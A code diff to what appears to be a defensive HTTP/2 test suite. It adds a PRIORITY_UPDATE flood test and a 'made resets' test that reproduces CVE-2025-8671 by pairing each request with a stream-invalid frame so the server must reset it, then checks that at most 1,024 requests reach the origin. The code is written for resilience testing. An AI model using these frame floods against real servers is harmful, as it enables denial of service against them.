@@ -1,5 +1,5 @@
 """Attacks over HTTP/2."""
-import asyncio
+import asyncio, struct
 
 import harness, wire
 from harness import attack
@@ -300,6 +300,32 @@ def settings_flood(bed):
 def priority_flood(bed):
     bed.start()
     flood(bed, [b"".join(wire.frame(wire.PRIORITY, 0, 2 * number + 1, b"\0\0\0\0\x10") for number in range(100))] * bed.scale(10_000, 100))
+
+
+@attack(promise="more than 1,024 PRIORITY_UPDATE frames at once end the connection (RFC 9218 §7.1)", where=CALM, peers=("nginx", "haproxy"))
+def priority_update_flood(bed):
+    bed.start()
+    updates = b"".join(wire.frame(wire.PRIORITY_UPDATE, 0, 0, struct.pack(">I", 2 * number + 1) + b"u=%d" % (number % 8)) for number in range(100))
+    flood(bed, [updates] * bed.scale(10_000, 100))
+
+
+@attack(promise="a client that makes us reset what it asked for is sent away as one that resets it itself (CVE-2025-8671)", where=CALM,
+        peers=("nginx", "haproxy"))
+def made_resets(bed):
+    """Each request is followed by a frame that is wrong for its stream only, so the server has to reset it."""
+    bed.start()
+    wrongs = (lambda stream: wire.window_update(stream, 0), lambda stream: wire.window_update(stream, 0x7fff_ffff),
+              lambda stream: wire.frame(wire.PRIORITY, 0, stream, struct.pack(">IB", stream, 16)))
+
+    def frames():
+        for number in range(bed.scale(100_000, 5_000)):
+            stream = 2 * number + 1
+            yield wire.request(stream, f"/bytes/1000/made-{number}?slow=5", scheme="https") + wrongs[number % 3](stream)
+
+    flood(bed, frames())
+    reached = sum("/made" in request.target for request in bed.origin.requests)
+    bed.note(f"{reached} requests reached the origin")
+    bed.expect(reached <= 1_024, f"{reached} requests reached the origin")
 
 
 @attack(promise="more than 1,024 empty DATA frames at once end the connection (CVE-2019-9518)", where=CALM, peers=("nginx", "haproxy"))
